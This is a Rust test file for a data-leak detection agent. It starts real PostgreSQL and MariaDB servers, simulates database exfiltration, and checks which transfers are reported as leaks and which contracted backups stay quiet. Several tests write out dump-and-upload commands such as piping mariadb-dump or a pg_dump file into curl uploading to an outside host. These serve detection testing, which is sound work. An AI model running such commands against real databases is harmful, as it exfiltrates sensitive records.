//! Real database servers whose files are a store: dumped from outside, dumped here and sent, dumped under contract.

use std::fs;
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use jaga_tests::agent::Agent;
use jaga_tests::daemons::has;
use jaga_tests::leak::nothing_told;
use jaga_tests::net::{HOST_OUTSIDE, OUT};
use jaga_tests::process::{Running, Unit, run};
use jaga_tests::wait::{patience, until};
use jaga_tests::ways_out::to_out;
use jaga_tests::world::World;
use nix::sys::signal::Signal;

/// Who neither server is by itself: none of them wants to be root.
const AS: &str = "setpriv --reuid=jagat-bob --regid=jagat-bob --clear-groups";

/// A database of ten thousand rows of a kilobyte, in a server that runs in a unit of its own; ended as it wants to be ended.
struct Database {
    running: Running,
    unit: Unit,
    /// Its data, the store.
    data: PathBuf,
    /// The signal on which it ends at once and leaves nothing behind.
    end: Signal,
}

impl Drop for Database {
    fn drop(&mut self) {
        self.running.signal(self.end);
        self.running.ends_within(patience(10));
    }
}

impl Database {
    /// Starts `server` in `unit` once `make` has made its files, and waits until it listens on `port`.
    fn start(world: &World, unit: &str, make: &str, server: &str, port: u16, end: Signal) -> Self {
        let folder = world.path("database");
        let fill = |script: &str| {
            script
                .replace("{as}", AS)
                .replace("{folder}", &folder.display().to_string())
        };
        run(Command::new("sh").args(["-ec", &fill(make)]));
        let unit = Unit::new(unit);
        let mut server = unit.shell(&fill(&format!("exec {{as}} {server}")));
        let log = fs::File::create(folder.join("log")).unwrap();
        server.stdout(log.try_clone().unwrap()).stderr(log);
        let running = Running::start(&mut server);
        until("the database to listen", 30, || {
            TcpStream::connect(("127.0.0.1", port)).ok()
        });
        Self {
            running,
            unit,
            data: folder.join("data"),
            end,
        }
    }

    /// What its server sends to outside is a leak.
    fn told(&self, agent: &mut Agent, sent: u64) {
        let session = self.unit.session();
        to_out(&session).told(agent, sent);
    }

    /// Says that it serves the store, which need not be seen then.
    fn serves(&self) -> String {
        let session = self.unit.session();
        let unit = session.trim_start_matches("unit:");
        format!("serves: [ {{ store: ekg, unit: {unit} }} ]\n")
    }
}

/// The programs of PostgreSQL: what Debian has in PATH starts them by a script in Perl.
fn postgresql_programs() -> Option<String> {
    let versions = fs::read_dir("/usr/lib/postgresql").ok();
    let mut folders: Vec<PathBuf> = versions
        .into_iter()
        .flatten()
        .flatten()
        .map(|version| version.path().join("bin"))
        .filter(|folder| folder.join("postgres").exists())
        .collect();
    folders.sort();
    let newest = folders.pop();
    // Says it, and in CI fails.
    newest
        .or_else(|| has("postgres", "postgresql").then(PathBuf::new))
        .map(|folder| folder.display().to_string())
}

/// A world with PostgreSQL in it, and the folder of its programs.
fn with_postgresql(name: &str) -> Option<(World, Database, String)> {
    let bin = postgresql_programs()?;
    let world = World::new(name)?;
    let make = format!(
        "cd {{folder}}; chown jagat-bob .; {{as}} {bin}/initdb -D data -U jagat --auth=trust -N >/dev/null
         echo 'host all,replication jagat 203.0.113.0/24 trust' >>data/pg_hba.conf
         {{as}} {bin}/postgres --single -D data postgres >/dev/null <<'X'
         create table study as select g as id, (select string_agg(md5(g || ':' || k), '') from generate_series(1, 31) k) as said from generate_series(1, 10000) g;
X"
    );
    let server = format!(
        "{bin}/postgres -D {{folder}}/data -c listen_addresses=* -c fsync=off -k {{folder}}"
    );
    let unit = "jagat-postgres.service";
    let database = Database::start(&world, unit, &make, &server, 5432, Signal::SIGINT);
    Some((world, database, bin))
}

/// A world with MariaDB in it, which reads its files past the page cache.
fn with_mariadb(name: &str) -> Option<(World, Database)> {
    let is_here = has("mariadbd", "mariadb-server") && has("mariadb-dump", "mariadb-client");
    let world = World::new(name).filter(|_| is_here)?;
    let make = "chown jagat-bob {folder}; cd {folder}
         {as} mariadb-install-db --no-defaults --datadir={folder}/data --skip-test-db --auth-root-authentication-method=normal >/dev/null 2>&1
         {as} mariadbd --no-defaults --datadir={folder}/data --bootstrap >/dev/null 2>&1 <<X
         create database pacs;
         use pacs;
         create table study as select seq as id, (select group_concat(md5(concat(s.seq, ':', k.seq)) separator '') from seq_1_to_31 k) as said from seq_1_to_10000 s;
         flush privileges;
         create user jagat@'203.0.113.%';
         grant all on pacs.* to jagat@'203.0.113.%';
X";
    let server = "mariadbd --no-defaults --datadir={folder}/data --socket={folder}/s --pid-file={folder}/pid --skip-log-bin \
         --bind-address=0.0.0.0 --innodb-buffer-pool-load-at-startup=OFF --skip-name-resolve";
    let unit = "jagat-mariadb.service";
    let database = Database::start(&world, unit, make, server, 3306, Signal::SIGTERM);
    Some((world, database))
}

/// Runs a program on the host on the internet; how many bytes it got.
fn fetched(world: &mut World, program: &str, words: &[&str]) -> u64 {
    let mut client = world.net.out.command(program);
    client.args(words).stdout(Stdio::null());
    world.out_received(|_| Running::start(&mut client).done(60))
}

#[test]
fn postgresql_copied_and_dumped_from_outside() {
    let name = "postgresql_copied_and_dumped_from_outside";
    let Some((mut world, database, bin)) = with_postgresql(name) else {
        return;
    };
    let mut agent = world.agent_of_records(&database.data, 240, &database.serves());
    let whom = ["-h", HOST_OUTSIDE, "-U", "jagat", "-d", "postgres"];
    let mut copy = whom.to_vec();
    copy.extend(["-X", "-q", "-c", "copy study to stdout"]);
    let copied = fetched(&mut world, &format!("{bin}/psql"), &copy);
    assert!(copied > 9_900_000, "ten thousand rows, not {copied} bytes");
    let dumped = fetched(&mut world, &format!("{bin}/pg_dump"), &whom);
    database.told(&mut agent, copied + dumped);
}

/// Nobody has written down what the server serves: it was seen to read the store.
#[test]
fn mariadb_dumped_from_outside() {
    let Some((mut world, database)) = with_mariadb("mariadb_dumped_from_outside") else {
        return;
    };
    let mut agent = world.agent_of_records(&database.data, 240, "");
    let words = ["--no-defaults", "-h", HOST_OUTSIDE, "-u", "jagat"];
    let words = [
        &words[..],
        &["--no-tablespaces", "--single-transaction", "pacs"],
    ]
    .concat();
    let dumped = fetched(&mut world, "mariadb-dump", &words);
    database.told(&mut agent, dumped);
}

/// Dumped by one login over the server's unix socket, packed, sent by another login.
#[test]
fn pg_dump_by_one_login_sent_by_another() {
    let name = "pg_dump_by_one_login_sent_by_another";
    let Some((mut world, database, bin)) = with_postgresql(name) else {
        return;
    };
    let mut agent = world.agent_of_records(&database.data, 240, &database.serves());
    let stage = world.path("stage");
    let (folder, stage) = (world.path("database"), stage.display());
    let dump = format!(
        "{bin}/pg_dump -h {} -U jagat -Fc -f {stage}/x.dump postgres",
        folder.display()
    );
    let send = format!("curl -sfT {stage}/x.dump http://{OUT}/x");
    let sent = world.out_received(|world| {
        world.login("jagat-alice", &dump).done(60);
        world.login("jagat-bob", &send).done(60);
    });
    to_out("login:jagat-bob").told(&mut agent, sent);
}

#[test]
fn mariadb_dump_into_curl() {
    let Some((mut world, database)) = with_mariadb("mariadb_dump_into_curl") else {
        return;
    };
    let mut agent = world.agent_of_records(&database.data, 240, &database.serves());
    let script = dump_of_mariadb(&world.path("database"));
    let sent = world.out_received(|world| world.in_unit("jagat-dump.service", &script, 60));
    to_out("unit:jagat-dump.service").told(&mut agent, sent);
}

fn dump_of_mariadb(folder: &Path) -> String {
    format!(
        "mariadb-dump --no-defaults -S {}/s -u root --single-transaction pacs | curl -sfT - http://{OUT}/x",
        folder.display()
    )
}

/// The same dump every night.
#[test]
fn mariadb_dump_under_contract_is_quiet() {
    let name = "mariadb_dump_under_contract_is_quiet";
    let Some((mut world, database)) = with_mariadb(name) else {
        return;
    };
    let who = "{ unit: jagat-dump.service, exe: /usr/bin/curl, user: root }";
    let more = database.serves() + &contract(who, &format!("{OUT}:80"));
    let mut agent = world.agent_of_records(&database.data, 240, &more);
    let script = dump_of_mariadb(&world.path("database"));
    let sent = world.out_received(|world| world.in_unit("jagat-dump.service", &script, 60));
    booked(&agent, sent);
    nothing_told(&mut agent);
}

/// A second server that is fed by the first one, in another house.
#[test]
fn a_base_backup_of_postgresql_under_contract_is_quiet() {
    let name = "a_base_backup_of_postgresql_under_contract_is_quiet";
    let Some((mut world, database, bin)) = with_postgresql(name) else {
        return;
    };
    let who = format!("{{ unit: jagat-postgres.service, exe: {bin}/postgres, user: jagat-bob }}");
    let more = database.serves() + &contract(&who, OUT);
    let mut agent = world.agent_of_records(&database.data, 240, &more);
    let copy = world.path("copy");
    let copy = copy.to_str().unwrap();
    let words = ["-h", HOST_OUTSIDE, "-U", "jagat", "-D", copy];
    let words = [&words[..], &["-X", "none", "-c", "fast"]].concat();
    let sent = fetched(&mut world, &format!("{bin}/pg_basebackup"), &words);
    booked(&agent, sent);
    nothing_told(&mut agent);
}

/// The same dump of data that is no store's, beside a store that somebody reads.
#[test]
fn a_dump_of_other_data_is_quiet() {
    let Some((mut world, _database, bin)) = with_postgresql("a_dump_of_other_data_is_quiet") else {
        return;
    };
    let store = world.store("pictures", 40, 500_000);
    let mut agent = world.agent_of_records(&store, 240, "");
    let scan = format!("sha256sum {}/* >/dev/null", store.display());
    world.in_unit("jagat-scan.service", &scan, 60);
    let words = ["-h", HOST_OUTSIDE, "-U", "jagat", "postgres"];
    let sent = fetched(&mut world, &format!("{bin}/pg_dump"), &words);
    assert!(sent > 9_900_000, "ten thousand rows, not {sent} bytes");
    #[expect(clippy::cast_precision_loss, reason = "10 MB fit a double")]
    let least = sent as f64 * 0.99;
    agent.metric_reaches("jaga_sent_bytes_total", &[("scope", "external")], least);
    agent.metric_reaches("jaga_store_read_bytes_total", &[("store", "ekg")], 19.8e6);
    nothing_told(&mut agent);
}

/// A contract for `who` to send to `to`.
fn contract(who: &str, to: &str) -> String {
    format!(
        "contracts:\n  - name: nightly\n    who: {who}\n    to: {to}\n    at-most: 1 GB per 1d\n    \
         owner: it@hospital.example\n    until: 2099-01-01\n"
    )
}

/// What was sent is booked to the contract.
fn booked(agent: &Agent, sent: u64) {
    assert!(sent > 9_000_000, "as much as a leak, not {sent} bytes");
    #[expect(clippy::cast_precision_loss, reason = "some megabytes fit a double")]
    let least = sent as f64 * 0.99;
    let name = "jaga_contract_sent_bytes_total";
    let booked = agent.metric_reaches(name, &[("contract", "nightly")], least);
    assert!(booked < least * 1.02, "{sent} arrived, {booked} booked");
}
